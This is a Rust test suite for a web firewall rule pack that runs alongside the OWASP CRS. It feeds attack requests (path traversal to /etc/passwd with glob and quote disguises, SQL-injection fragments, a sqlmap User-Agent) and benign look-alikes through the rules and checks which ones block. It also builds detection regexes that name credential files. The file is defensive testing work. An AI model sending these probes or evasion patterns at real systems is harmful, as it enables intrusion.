            "WARNING" => 3,
            "NOTICE" => 2,
            s => panic!("{id}: severity {s}"),
        };
        let adds = r.values("setvar");
        assert_eq!(adds, vec![format!("tx.portcullis_inbound_score=+{points}")], "{id}: adds its severity's points");
        let tags = r.values("tag");
        assert!(tags.iter().any(|t| t == "portcullis"), "{id}: tag portcullis");
        let attack: Vec<&String> = tags.iter().filter(|t| ATTACK_TAGS.contains(&t.as_str())).collect();
        assert_eq!(attack.len(), 1, "{id}: exactly one attack tag, got {tags:?}");
        for t in &tags {
            if let Some(cve) = t.strip_prefix("cve/") {
                let ok = cve.len() >= 13 && cve.starts_with("CVE-") && cve[4..8].chars().all(|c| c.is_ascii_digit()) && &cve[8..9] == "-" && cve[9..].chars().all(|c| c.is_ascii_digit());
                assert!(ok, "{id}: malformed CVE tag {t}");
            } else {
                // portcullis/confirm-not-inert: 95-confirm.conf's inert-text
                // confirmation governs the rule, as it does CRS's.
                // portcullis/header-values: 15-decoded.conf's exclusion of
                // the structured headers applies.
                assert!(
                    t == "portcullis" || t == "portcullis/confirm-not-inert" || t == "portcullis/header-values" || ATTACK_TAGS.contains(&t.as_str()),
                    "{id}: unexpected tag {t}"
                );
            }
        }
        let t = r.values("t");
        assert!(t.first().is_some_and(|x| x == "none"), "{id}: transformation chain starts with t:none");
    }
    // The blocking rules: deny with 403 on the score, in phases 1 and 2.
    for (id, phase) in [(4_290_100, "phase:1"), (4_290_200, "phase:2")] {
        let r = rules.iter().find(|r| r.id() == id).unwrap_or_else(|| panic!("blocking rule {id} missing"));
        assert!(r.head().contains(phase) && r.has_action("deny") && r.head().contains("status:403"), "{id}: deny 403 in {phase}");
        assert!(r.head().contains("portcullis_inbound_threshold"), "{id}: compares with the threshold");
    }
    println!("pack conventions: {} rules checked, {detections} detection rules", rules.len());
    assert!(detections >= 20, "expected at least 20 detection rules, found {detections}");
}

#[test]
fn every_rule_catches_its_attacks() {
    let rules = pack();
    let mut cases = attacks();
    cases.extend(class_attacks());
    let mut ran = 0;
    let mut skipped: Vec<String> = Vec::new();
    let mut failures: Vec<String> = Vec::new();
    for (id, req) in &cases {
        let body: String = String::from_utf8_lossy(&req.body).chars().take(160).collect();
        let label = format!("{id} {} {} {}{body:?}", req.method, req.uri, extra_headers(req));
        if !available(req.needs) {
            skipped.push(format!("{label} (needs {:?} body parsing)", req.needs));
            continue;
        }
        ran += 1;
        let o = run(rules, req);
        let Some(m) = o.matches.iter().find(|m| m.rule_id == *id) else {
            failures.push(format!("{label}: rule did not match; {}", describe(&o)));
            continue;
        };
        if m.severity_name() == "CRITICAL" {
            match &o.interruption {
                Some(i) if i.status == 403 && matches!(i.rule_id.map(RuleId::get), Some(4_290_100) | Some(4_290_200)) => {}
                _ => failures.push(format!("{label}: critical hit did not block; {}", describe(&o))),
            }
        }
        if m.msg.is_empty() || m.data.is_empty() || !m.tags.iter().any(|t| t == "portcullis") {
            failures.push(format!("{label}: match lacks msg/logdata/tags: {m:?}"));
        }
    }
    // Every detection rule has cases.
    let covered: BTreeSet<i64> = cases.iter().map(|(id, _)| *id).collect();
    for id in detection_ids() {
        if !covered.contains(&id) {
            failures.push(format!("detection rule {id} has no attack case"));
        }
    }
    for s in &skipped {
        println!("SKIPPED {s}");
    }
    println!("attack cases: {} listed, {ran} ran, {} skipped, {} failed", cases.len(), skipped.len(), failures.len());
    assert!(ran >= 100, "only {ran} attack cases ran");
    assert!(failures.is_empty(), "{} attack case(s) failed:\n{}", failures.len(), failures.join("\n"));
}

/// The headers of `req` a browser would not have sent (for labels).
fn extra_headers(req: &Req) -> String {
    req.headers
        .iter()
        .filter(|(n, v)| !BROWSER.iter().any(|(bn, bv)| bn == n && bv == v))
        .map(|(n, v)| format!("[{n}: {v}] "))
        .collect()
}

#[test]
fn look_alikes_match_nothing() {
    let rules = pack();
    let mut cases = look_alikes();
    cases.extend(class_look_alikes());
    let mut ran = 0;
    let mut failures: Vec<String> = Vec::new();
    for req in &cases {
        if !available(req.needs) {
            // A benign body the engine cannot parse yet still must not block.
            let o = run(rules, req);
            if o.interruption.is_some() {
                failures.push(format!("{} {}: blocked; {}", req.method, req.uri, describe(&o)));
            }
            continue;
        }
        ran += 1;
        let o = run(rules, req);
        if o.interruption.is_some() || !o.matches.is_empty() {
            failures.push(format!("{} {} {:?}: {}", req.method, req.uri, String::from_utf8_lossy(&req.body), describe(&o)));
        }
    }
    println!("look-alike cases: {} listed, {ran} ran, {} failed", cases.len(), failures.len());
    assert!(ran >= 80, "only {ran} look-alike cases ran");
    assert!(failures.is_empty(), "{} benign case(s) matched:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn path_bypasses_are_blocked() {
    let rules = pack();
    let mut failures: Vec<String> = Vec::new();
    let cases = path_bypasses();
    for (what, req) in &cases {
        let o = run(rules, req);
        println!("{what}: rules {:?}", o.ids());
        if o.interruption.as_ref().is_none_or(|i| i.status != 403) {
            failures.push(format!("{what}: {} {} {}was not blocked; {}", req.method, req.uri, extra_headers(req), describe(&o)));
        }
    }
    // A plain name is scored once: the disguise rules leave it alone.
    for req in [Req::get("/etc/passwd"), arg("file", "/etc/passwd"), Req::get("/etc;/passwd")] {
        let o = run(rules, &req);
        if o.ids().iter().any(|id| [4_220_220, 4_220_230].contains(id)) || o.score.as_deref() != Some("5") {
            failures.push(format!("plain name {} scored more than once: {}", req.uri, describe(&o)));
        }
    }
    let benign = path_look_alikes();
    for (what, req) in &benign {
        let o = run(rules, req);
        if o.interruption.is_some() || !o.matches.is_empty() {
            failures.push(format!("look-alike {what}: {} {} matched; {}", req.method, req.uri, describe(&o)));
        }
    }
    println!("path bypass cases: {} blocked as expected, {} look-alikes passed, {} failed", cases.len(), benign.len(), failures.len());
    assert!(failures.is_empty(), "{} path case(s) failed:\n{}", failures.len(), failures.join("\n"));
}

/// The `@rx` pattern of rule `id` in `file` of the pack.
fn rx_of(file: &str, id: i64) -> String {
    let text = fs::read_to_string(pack_dir().join(file)).unwrap();
    let rule = text.split("\nSecRule ").find(|r| r.contains(&format!("\"id:{id},"))).unwrap_or_else(|| panic!("{id} not in {file}"));
    let start = rule.find("\"@rx ").unwrap_or_else(|| panic!("{id}: no @rx")) + 5;
    let end = rule.find("\" \\\n").unwrap_or_else(|| panic!("{id}: no end of operator"));
    rule[start..end].to_string()
}

/// Rules 4220220 and 4220230 spell out the grammar their comment gives
/// (letter sets, evasion characters, separators), so the long pattern can be
/// reviewed as the few lines below.
#[test]
fn disguised_name_regex_follows_its_grammar() {
    // Letters of a name, or evasion characters; then one glob next to a
    // letter or a quote or backslash before one; then more of the first.
    let disguised = |letters: &str| {
        let any = format!(r"[{letters}?*\[\]\x22\x27\x5c]*");
        format!(r"{any}(?:[{letters}][?*\[]|[?*\[][{letters}]|[\x22\x27\x5c][{letters}]){any}")
    };
    let slash = r"(?:;[^/]*)?/(?:\.?(?:;[^/]*)?/)*";
    let dir = format!(r"(?:{}|\?{{3}})", disguised("cet"));
    let names = r"(?:passwd|g?shadow|master\.passwd|sudoers|group|host(?:s|name)|issue|crontab)";
    let sets = ["adpsw", "adghosw", ".ademprstw", "deorsu", "gopru", "aehmnost", "eisu", "abcnort"];
    let disguised_names = format!("(?:{})", sets.map(disguised).join("|"));
    let want = format!(r"(?i)/(?:{dir}{slash}{names}|(?:etc|{dir}){slash}{disguised_names})(?:[^a-z0-9_]|$)");
    for id in [4_220_220, 4_220_230] {
        assert_eq!(rx_of("20-lfi.conf", id), want, "{id}");
    }
    println!("grammar cases: 2");
}

/// 95-confirm.conf's developer command line (the Unix command rules'
/// confirmation) is a 2 KB regex; this builds it from its grammar, so it is
/// reviewed, and changed, as the lines below.
#[test]
fn command_line_regex_follows_its_grammar() {
    let text = fs::read_to_string(pack_dir().join("95-confirm.conf")).unwrap();
    let line = text.lines().find(|l| l.starts_with("SecRuleConfirmById \"932130 ")).unwrap();
    let next = text.lines().skip_while(|l| *l != line).nth(1).unwrap();
    let have = next.trim_start().strip_prefix("\"!@rx ").and_then(|r| r.strip_suffix("\" \\")).unwrap();

    // A word of the first command: plain characters, a quoted string
    // without a slash, or $(date ...); dots and slashes only one at a time
    // between them (no .., no leading / or dot file), ~/ or ./ before.
    let plain = r"[\w\x80-\xff@%+=:,*?-]";
    let quoted = r"\x27[^\x27/\r\n]*\x27|\x22[^\x22$\x60\\\\/\r\n]*\x22";
    let date = r"\$\(date(?:[ \t]+[+%-][\w%:+-]*)*\)";
    let piece = format!("(?:{plain}|{quoted}|{date})+");
    let word = format!(r"\.|(?:~/|\./)?{piece}(?:[./]{piece})*[./]?");
    let first = "(?:ls|grep|egrep|fgrep|ps|du|df|tar|tree|wc|sort|uniq)";
    // After a pipe: a text filter given options and words (no file name),
    // or awk printing fields; last, the ids it printed may be signalled.
    let filter = "(?:sort|uniq|head|tail|wc|cut|tr|grep|egrep|fgrep|column|nl|tac|rev)";
    let filter_arg = r"--?\w[\w,:%+=-]*|[\w\x80-\xff]+[.,:!?]?|\x27[\w\x80-\xff \t*^:,-]*\x27|\x22[\w\x80-\xff \t*^:,-]*\x22";
    let print_fields = r"awk[ \t]+\x27\{[ \t]*print(?:[ \t]+\$\d+(?:[ \t]*,[ \t]*\$\d+)*)?[ \t]*\}\x27";
    let stage = format!(r"{filter}(?:[ \t]+(?:{filter_arg}))*|{print_fields}");
    let signal = r"(?:[ \t]*\|[ \t]*xargs[ \t]+kill(?:[ \t]+-\w+)*)?";
    let pipeline = format!(r"\A\s*{first}(?:[ \t]+(?:{word}))*(?:[ \t]*\|[ \t]*(?:{stage}))*{signal}\s*\z");
    // A build or housekeeping step whose && and || run only a status
    // message or the project's own build: echo of plain words, make of
    // options and targets, true, false.
    let step = "(?:ping|rm|mkdir|cd|cp|mv|touch|make|git|npm|yarn|pnpm|cargo|go|docker)";
    let then = r"(?:echo(?:[ \t]+[\w\x80-\xff.,:!?-]+)*|make(?:[ \t]+(?:-[\w=-]+|[\w-]+))*|true|false)";
    let and_or = format!(r"\A\s*{step}(?:[ \t]+(?:{word}))*(?:[ \t]*(?:&&|\|\|)[ \t]*{then})+\s*\z");
    // A loop or condition whose do/then follows a first line with nothing
    // that runs in an argument but $(seq ...) or $(date ...).
    let inert = r"[^;&|\r\n\x60$(){}<>\\\\\x27\x22]";
    let loop_header = format!(r"\A\s*(?:for|while|until|if)[ \t]+(?:{inert}|\$\((?:seq|date)(?:[ \t]+[\w%:+.-]+)*\))*;[ \t]*(?:do|then)\b");
    let want = format!("{pipeline}|{loop_header}|{and_or}");
    assert_eq!(have, want, "\nwant: {want}");
}

/// 95-confirm.conf's inert-text test (the confirmation of CRS's attack
/// families and of the rules tagged portcullis/confirm-not-inert) is one
/// long regex; it spells out the grammar its comment gives, so it can be
/// reviewed, and changed, as the few lines below.
#[test]
fn inert_text_regex_follows_its_grammar() {
    let text = fs::read_to_string(pack_dir().join("95-confirm.conf")).unwrap();
    let line = text.lines().find(|l| l.starts_with("SecRuleConfirmByTag \"OWASP_CRS/ATTACK-SQLI")).unwrap();
    let next = text.lines().skip_while(|l| *l != line).nth(1).unwrap();
    let have = next.trim_start().strip_prefix("\"!@rx ").and_then(|r| r.strip_suffix("\" \\")).unwrap();

    // A word: letters and digits (any non-ASCII byte is a letter), with
    // ' @ . _ - inside, runs joined by one / + : or ,; one $ or @ before
    // ($10, @siobhan), % after; sentence punctuation, a rich-text editor's
    // bare tags, character references and a footnote mark ([^1]) around it.
    let (a, inner) = (r"[a-zA-Z0-9\x80-\xff]", r"[a-zA-Z0-9\x80-\xff\x27@._-]");
    // A run may also be a letter and # (C#, F#: a language, a tag).
    let run = format!("(?:[a-zA-Z]#|{a}(?:{inner}*{a})?)");
    let tag = r"<\/?(?:p|b|i|u|s|em|strong|br|li|ul|ol|h[1-6]|blockquote|span|small|sub|sup|mark|del|ins|kbd|code|pre|samp|var|cite|q|hr|dl|dt|dd)\s*\/?>";
    let entity = r"&(?:[a-zA-Z]{2,8}|#[0-9]{1,6}|#[xX][0-9a-fA-F]{1,6});";
    let word = format!(
        r#"(?:[(\"\x27*_#\[+~]|{tag}|{entity})*[$@]?{run}(?:[/+:,]{run})*%?(?:[)\"\x27*_\]+]|{tag}|{entity})*[,.;:!?]*(?:[)\"\x27*_\]]|{tag}|{entity}|\[\^\w{{1,20}}\])*"#
    );
    // A prose token: a word, a lone & ~ # * or dash, an arrow (->), an
    // emoticon, a task box, a ${placeholder}, a footnote's label ([^1]:),
    // tags and references alone.
    let token = format!(r"{word}|&|[#*~-]+|-+>|:-?[()DPp]|\[[ xX]?\]|\$\{{[a-zA-Z_]\w*\}}[,.;:!?]*|\[\^\w{{1,20}}\]:|(?:{tag}|{entity})+");
    // Inline code, which a hyphenated word may follow (`;`-separated); a
    // link or an image, with a title.
    let inline = r#"\(?\x60[^\x60\r\n]{1,200}\x60(?:-[a-zA-Z\x80-\xff]+)*[)\"\x27*_,.;:!?]*"#;
    let link = r#"\(?!?\[[^\]\r\n]{1,200}\]\((?:https?://|/|#)[^\s()<>\"\x27\x60]*(?:[ \t]+\x22[^\x22\r\n<>]{0,200}\x22)?\)[)\"\x27*_,.;:!?]*"#;
    // Markdown: a line of tokens, inline code and links; a table row; a
    // fenced block; and one line or row with a word outside code.
    let t = format!("(?:(?:{token})|{inline}|{link})");
    let line_of = |mid: &str| format!(r"[ \t]*(?:{t}[ \t]+)*{mid}(?:[ \t]+{t})*[ \t]*");
    let md_line = format!(r"[ \t]*{t}(?:[ \t]+{t})*[ \t]*");
    let fence = r"\x60\x60\x60[\w+#.-]*[ \t]*\r?\n(?:[^\x60\r\n][^\r\n]*\r?\n|[ \t]*\r?\n)*\x60\x60\x60[ \t]*";
    let cell = format!(r"[ \t]*(?::?-+:?|{t}(?:[ \t]+{t})*)?[ \t]*\|");
    let row = format!(r"[ \t]*\|(?:{cell})+[ \t]*");
    let word_line = line_of(&format!("(?:{word})"));
    let word_row = format!(r"[ \t]*\|(?:{cell})*{}\|(?:{cell})*[ \t]*", line_of(&format!("(?:{word})")));
    let any_line = format!("{md_line}|{row}|{fence}");
    // Any line may be quoted (> in Markdown and in an e-mail reply), and a
    // quoted line may be empty.
    let quote = r"(?:>[ \t]*)*";
    let document = format!(
        r"\A\s*(?:{quote}(?:{any_line})?[ \t]*\r?\n\s*)*{quote}(?:{word_line}|{word_row})(?:[ \t]*\r?\n\s*{quote}(?:{any_line})?)*\s*\z"
    );
    let prose = format!(r"\A\s*(?:(?:{token})(?:\s+|\z))+\z");
    let data = r"\Adata:(?:image|audio|video|font)/[\w.+-]+(?:;[\w.+-]+=[\w.+-]+)*;base64,[a-zA-Z0-9+/]+={0,2}\z|\Adata:application/pdf;base64,[a-zA-Z0-9+/]+={0,2}\z";
    let graphql = r"\A\s*(?:query|mutation|subscription)\s+\w+\s*(?:\([^)]*\))?\s*\{[^;<>`|]*\}\s*\z";
    let want = format!("{prose}|{data}|{document}|{graphql}");
    assert_eq!(have, want, "\nwant: {want}");
    println!("grammar cases: 1 ({} bytes)", want.len());
}

#[test]
fn corpus_gets_its_expected_verdicts() {
    let rules = pack();
    let dir = corpus_dir();
    let mut paths: Vec<PathBuf> = fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("corpus {}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    paths.sort();
    let (mut ran, mut blocked, mut passed) = (0, 0, 0);
    let mut skipped: Vec<String> = Vec::new();
    let mut failures: Vec<String> = Vec::new();
    for p in &paths {
        let doc = mini_json::parse(&fs::read_to_string(p).unwrap()).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
        let name = doc.get("name").and_then(|v| v.str()).unwrap().to_string();
        let expect = doc.get("expect").and_then(|v| v.str()).unwrap().to_string();
        let mut req = Req {
            method: doc.get("method").and_then(|v| v.str()).unwrap().into(),
            uri: doc.get("uri").and_then(|v| v.str()).unwrap().into(),
            headers: doc
                .get("headers")
                .and_then(|v| v.arr())
                .unwrap()
                .iter()
                .map(|h| {
                    let h = h.arr().unwrap();
                    (h[0].str().unwrap().to_string(), h[1].str().unwrap().to_string())
                })
                .collect(),
            body: doc.get("body").and_then(|v| v.str()).unwrap_or("").as_bytes().to_vec(),
            needs: Needs::Nothing,
        };
        let ctype = req.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case("content-type")).map(|(_, v)| v.to_ascii_lowercase()).unwrap_or_default();
        if ctype.starts_with("application/json") && expect == "block" {
            req.needs = Needs::Json;
        }
        if !available(req.needs) {
            skipped.push(format!("{name} (expect {expect}; needs {:?} body parsing)", req.needs));
            continue;
        }
        ran += 1;
        let o = run(rules, &req);
        let got = if o.interruption.is_some() { "block" } else { "pass" };
        println!("{name}: expect {expect}, got {got}, rules {:?}", o.ids());
        if got != expect {
            failures.push(format!("{name}: expected {expect}, got {got}; {}", describe(&o)));
        } else if got == "block" {
            blocked += 1;
        } else {
            passed += 1;
            if !o.matches.is_empty() {
                failures.push(format!("{name}: benign request matched rules; {}", describe(&o)));
            }
        }
    }
    for s in &skipped {
        println!("SKIPPED {s}");
    }
    println!("corpus: {} files, {ran} ran ({blocked} blocked as expected, {passed} passed as expected), {} skipped, {} failed", paths.len(), skipped.len(), failures.len());
    assert!(paths.len() >= 35, "expected the 35 corpus files in {}", dir.display());
    assert!(ran >= 30, "only {ran} corpus requests ran");
    assert!(failures.is_empty(), "{} corpus request(s) failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn one_warning_does_not_block_two_do() {
    let rules = pack();
    let mut ran = 0;
    for (req, id) in [(q("phpinfo()"), 4_235_150), (q("information_schema"), 4_240_160), (q("the 'end' --"), 4_240_150), (q("admin'#"), 4_240_150)] {
        ran += 1;
        let o = run(rules, &req);
        let m = o.matches.iter().find(|m| m.rule_id == id).unwrap_or_else(|| panic!("{id} did not match {}; {}", req.uri, describe(&o)));
        assert_eq!(m.severity_name(), "WARNING", "{id}");
        assert!(o.interruption.is_none(), "one warning blocked {}: {}", req.uri, describe(&o));
        assert_eq!(o.score.as_deref(), Some("3"), "{}: {}", req.uri, describe(&o));
    }
    // Two warnings: 3 + 3 reaches 5.
    ran += 1;
    let o = run(rules, &Req::get("/search?a=phpinfo()&b=information_schema"));
    assert_eq!(o.score.as_deref(), Some("6"), "{}", describe(&o));
    let i = o.interruption.as_ref().unwrap_or_else(|| panic!("two warnings did not block: {}", describe(&o)));
    assert_eq!((i.status, i.rule_id, i.phase), (403, Some(RuleId(4_290_200)), Phase::RequestBody));
    // A clean request scores 0.
    ran += 1;
    let o = run(rules, &Req::get("/search?q=shoes"));
    assert_eq!(o.score.as_deref(), Some("0"));
    assert!(o.interruption.is_none() && o.matches.is_empty());
    println!("scoring cases: {ran}");
}

#[test]
fn phase_one_blocks_header_attacks_before_the_body() {
    let rules = pack();
    let req = Req::post("/api/v1/items", "application/x-www-form-urlencoded", b"a=1").header("User-Agent", "sqlmap/1.8");
    let o = run(rules, &req);
    let i = o.interruption.unwrap_or_else(|| panic!("not blocked"));
    assert_eq!((i.status, i.rule_id, i.phase), (403, Some(RuleId(4_290_100)), Phase::RequestHeaders));
    println!("phase 1 cases: 1");
}

#[test]
fn threshold_can_be_raised_by_an_earlier_rule() {
    let (confs, data) = pack_files();
    let raised = build(&["SecAction \"id:100,phase:1,pass,nolog,setvar:tx.portcullis_inbound_threshold=100\""], &confs, &data);
    let mut tx = raised.new_transaction();
    tx.process_uri(b"/etc/passwd", b"GET", b"HTTP/1.1");
    tx.add_request_header(b"Host", b"shop.example.com");
    tx.process_request_headers();
    tx.process_request_body();
    assert!(tx.interruption().is_none(), "blocked despite threshold 100");
    assert!(tx.matches().iter().any(|m| m.rule_id == 4_220_200));
    assert_eq!(tx.tx_var("portcullis_inbound_threshold").as_deref(), Some(&b"100"[..]));
    // Default: 5.
    let o = run(pack(), &Req::get("/"));
    assert!(o.interruption.is_none());
    let mut tx = pack().new_transaction();
    tx.process_uri(b"/", b"GET", b"HTTP/1.1");
    tx.process_request_headers();
    assert_eq!(tx.tx_var("portcullis_inbound_threshold").as_deref(), Some(&b"5"[..]));
    println!("threshold cases: 2");
}

#[test]
fn every_regex_is_prefiltered() {
    let rules = pack();
    let stats = rules.stats();
    println!("pack: {stats:?}");
    let unfiltered = rules.unfiltered_rx_rules();
    assert!(unfiltered.is_empty(), "@rx rules without a literal prefilter: {unfiltered:?}");
    assert!(stats.prefiltered_rules >= 15, "{stats:?}");
    // Few transformation chains, shared between rules (the decoding chain of
    // 15-decoded.conf is six of them, one per layer; 95-confirm.conf's
    // cmdLine step for 932140 is one more, run only after a hit; 00-init's
    // lowercased Content-Type one more, on one header).
    assert!(stats.transformation_chains <= 14, "{stats:?}");
}

/// `rules: ["@builtin", "@crs"]` (the demo's default) built once, or `None`
/// without a CRS (the caller skips).
fn with_crs() -> Option<&'static Arc<RuleSet>> {
    static RULES: OnceLock<Option<Arc<RuleSet>>> = OnceLock::new();
    RULES.get_or_init(|| build_with_crs(&[])).as_ref()
}

/// `prelude` (SecLang texts), then `@builtin`, then the CRS; `None` without
/// a CRS.
fn build_with_crs(prelude: &[&str]) -> Option<Arc<RuleSet>> {
    let crs = crs_dir();
    let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/base/recommended.conf");
    if !crs.join("rules").is_dir() || !base.is_file() {
        return None;
    }
    let (mut confs, mut data) = pack_files();
    let mut all = vec![("rules/base/recommended.conf".to_string(), fs::read(&base).unwrap())];
    all.push(("crs/crs-setup.conf".to_string(), fs::read(crs.join("crs-setup.conf.example")).unwrap()));
    all.extend(files(&crs.join("rules"), ".conf", "crs/rules"));
    // The pack first, as `rules: ["@builtin", "@crs"]`.
    confs.extend(all);
    data.extend(files(&crs.join("rules"), ".data", "crs/rules"));
    Some(build(prelude, &confs, &data))
}

#[test]
fn loads_next_to_the_crs() {
    let Some(rules) = with_crs() else {
        println!("SKIPPED: no CRS at {}", crs_dir().display());
        return;
    };
    // Our phase 1 decision still fires, with our own score.
    let o = run(rules, &Req::get("/etc/passwd"));
    let i = o.interruption.as_ref().unwrap_or_else(|| panic!("not blocked: {}", describe(&o)));
    assert_eq!(i.rule_id, Some(RuleId(4_290_100)), "{}", describe(&o));
    assert_eq!(o.score.as_deref(), Some("5"));
    // A benign browser request passes both.
    let o = run(rules, &Req::get("/search?q=O%27Reilly+%26+Sons&page=2"));
    assert!(o.interruption.is_none(), "{}", describe(&o));
    assert!(!o.ids().iter().any(|id| (4_200_000..4_300_000).contains(id)), "{}", describe(&o));
    println!("CRS coexistence cases: 2");
}

/// 95-confirm.conf: CRS hits on inert text and code samples do not count,
/// attacks that also look like them still block. Each benign case here was
/// blocked by CRS at PL1 before the confirmations.
#[test]
fn confirmations_pass_inert_values_and_keep_attacks() {
    let Some(rules) = with_crs() else {
        println!("SKIPPED: no CRS at {}", crs_dir().display());
        return;
    };
    let png = format!("data:image/png;base64,iVBORw0KGgo{}", "AAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ".repeat(8));
    let svg = format!("data:image/svg+xml;base64,{}", b64(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><rect width=\"9\" fill=\"#71cfd4\"/></svg>", false));
    let benign: Vec<(&str, Req)> = vec![
        ("a search of words", q("union station select seats")),
        ("a PATCH", Req { method: "PATCH".into(), ..json(r#"{"city":"Galway","show_age":true}"#) }),
        ("an RSS feed posted", Req::post("/api/v1/feeds/import", "application/rss+xml", br#"<?xml version="1.0"?><rss version="2.0"><channel><title>Shop news</title></channel></rss>"#)),
        ("a JSON merge patch", Req { method: "PATCH".into(), ..Req::post("/api/v1/profile", "application/merge-patch+json", br#"{"city":"Galway"}"#) }),
        ("a versioned vendor JSON type (920420)", Req::post("/api/v2/orders", "application/vnd.shop.v2+json; charset=utf-8", br#"{"qty":2}"#)),
        ("a KML upload (920420)", Req::post("/api/v1/feeds/import", "application/vnd.google-earth.kml+xml", br#"<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>Drop-off point</name></Placemark></kml>"#)),
        ("an upload named with an apostrophe", Req::post("/upload", "multipart/form-data; boundary=b", b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"O'Brien - CV (2024).docx\"\r\nContent-Type: application/octet-stream\r\n\r\nPK\r\n--b--\r\n")),
        ("a PUT", Req { method: "PUT".into(), ..json(r#"{"qty":2}"#) }),
        ("a DELETE", Req::new("DELETE", "/api/v1/orders/123")),
        ("a shell by path in inline code", arg("body", "`kubectl exec -it web-7d9c -- bash` fails with 'executable file not found'. `-- /bin/sh` works. Is `kubectl debug` the only option?")),
        ("a command named in inline code next to a host", arg("body", "I added `127.0.0.1 api.local` to my hosts file. `ping api.local` resolves correctly but Chrome still goes to the old IP.")),
        ("a Markdown table with an id column", json(r###"{"body":"## Bug triage\n\n| id | title | status |\n|----|-------|--------|\n| 412 | Cart total off by 0.01 | open |"}"###)),
        ("a Markdown table of shell operators", json(r#"{"body":"| Operator | Meaning |\n|---|:---:|\n| `&&` | run next if previous succeeded |\n| `\\|\\|` | run next if previous failed |\n| `;` | run next regardless |\n\n```sh\nmake && make install || echo \"build failed\"\n```"}"#)),
        ("SQL in a fence after a contraction", json(r#"{"body":"Here's what I have so far:\n\n```sql\nSELECT name FROM cities WHERE country = 'FR'\nUNION\nSELECT name FROM towns WHERE country = 'FR';\n```\n\nbut the result has duplicates. Thanks in advance!"}"#)),
        ("a Python program in a field", arg("body", "from datetime import datetime, timedelta\nprint(datetime.now() - timedelta(days=7))")),
        ("a Dockerfile in a field", json(r#"{"code":"FROM python:3.12-slim\nRUN pip install -r requirements.txt\nCMD [\"python\", \"app.py\"]"}"#)),
        ("rich text from an editor", json(r#"{"body_html":"<p>Does anyone know if the <b>drop-off</b> point at the recycling centre takes old paint? The website says &quot;select items only&quot;.</p>"}"#)),
        ("inline code in a comment", arg("comment", "lol the bit about `rm -rf node_modules && npm install` being the universal fix is painfully true")),
        ("a fenced shell loop in a question", json(r#"{"body":"Sorry if this is a duplicate. Code:\n\n```bash\nfor i in $(seq 1 5); do curl -s https://api.example.com/health; sleep 2; done\n```\n\nand it hangs forever."}"#)),
        ("a fenced tar with a date in a question", arg("body", "I tried this:\n\n```bash\ntar -czf backup-$(date +%F).tar.gz ~/projects\n```\n\nbut the result has duplicates.")),
        ("a JavaScript template literal", arg("code", "const res = await fetch(`/api/v1/orders/${id}`, { method: 'DELETE' });")),
        ("a CI expression", arg("config", "steps:\n  - run: echo \"done in ${{ job.status }}\"")),
        ("a Log4j lookup named in a question", arg("body", "In log4j2.xml I set fileName=\"${sys:user.home}/logs/app.log\" and it creates a folder literally named ${sys:user.home}. Is user.home empty there?")),
        ("a Java call named in a question", arg("body", "I'm calling a converter with Runtime.getRuntime().exec and it breaks on paths with spaces. Should I switch to ProcessBuilder?")),
        ("prose with times and identifiers", arg("body", "Yesterday I ran DROP TABLE on what I thought was the staging copy of customer_notes... it wasn't. Can I replay the binlog up to 02:00, and how do I find the position?")),
        ("prose with a time zone and a timestamp", arg("description", "Timestamps in the export are UTC but the UI shows local time (UTC+10). Could the export say which zone it uses, e.g. 2026-03-01T09:00:00+10:00?")),
        ("a review with prices and an emoticon", json(r#"{"body":"Bought the 2-pack for £24.99 (was £34.99, so ~29% off). Sturdy, and the \"select\" button actually clicks this time!! Would buy again :)"}"#)),
        ("a path named in a chat message", json(r#"{"text":"who owns /etc/nginx/conf.d/shop.conf? someone changed the upstream"}"#)),
        ("dotfiles named in a comment", arg("comment", "I had to add /opt/homebrew/bin to PATH in ~/.zshrc and open a new terminal.")),
        ("a hosts file named in a wiki page", arg("text", "For local testing, map shop.local to 127.0.0.1 in /etc/hosts (macOS/Linux).")),
        ("a hosts file named in a header", Req::get("/").header("X-Comment", "the installer no longer edits /etc/hosts")),
        ("copy to a program folder", arg("message", "How do I copy the installer to Program Files on Windows 11?")),
        ("prose with a semicolon", arg("message", "The exec committee meets on Tuesday; sleep well before the vote")),
        ("quoted words", arg("message", "Does 'select all' in the app also select the archived items, or only the ones in the table?")),
        ("a Markdown checklist", json(r###"{"body":"## Union meeting\n\n- [x] select a chair\n- [ ] update the minutes\n- [ ] drop the old agenda"}"###)),
        ("a URL-encoded cookie of words", Req::get("/").header("Cookie", "last_search=union%20station%20select%20seats")),
        ("a PNG data URL", json(&format!(r#"{{"avatar":"{png}"}}"#))),
        ("an SVG data URL", form(&[("signature", svg.as_str())])),
        ("a GraphQL operation", json(r#"{"query":"query Orders($first: Int!) { orders(first: $first, orderBy: CREATED_AT_DESC) { id total status } }","variables":{"first":12}}"#)),
        ("a whole SQL statement", form(&[("body", "SELECT COUNT(*) FROM users WHERE email LIKE '%@example.org';")])),
        ("SQL passed to a database call", form(&[("body", "cur.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))")])),
        ("a same-origin script tag", json(r#"{"code":"<script src=\"/static/app.js\" defer></script>"}"#)),
        ("an onclick calling a page function", form(&[("body", "<a href=\"#\" onclick=\"toggle()\">Show more</a>")])),
        ("a URL in wiki text", json(r#"{"body":"Local dev: http://localhost:3000/api/users?id=42&include=orders"}"#)),
        ("prose naming a script tag", q("My script tag disappeared after the update <script> was removed?")),
        ("a template placeholder in prose", q("Try ${variable} syntax in the template editor")),
        ("a Python main guard (932140)", form(&[("body", "if __name__ == '__main__':\n    main()")])),
        ("a JS condition (932140)", form(&[("body", "if (a == b) { render(); }")])),
        ("a regex with a numeric repeat (932280)", json(r#"{"code":"^[A-Z]{2}\\d{2}[A-Z0-9]{11,30}$"}"#)),
        ("a line of Python that starts like a command (932250)", form(&[("body", "df = pd.read_sql('SELECT * FROM sales WHERE year = 2026', conn)")])),
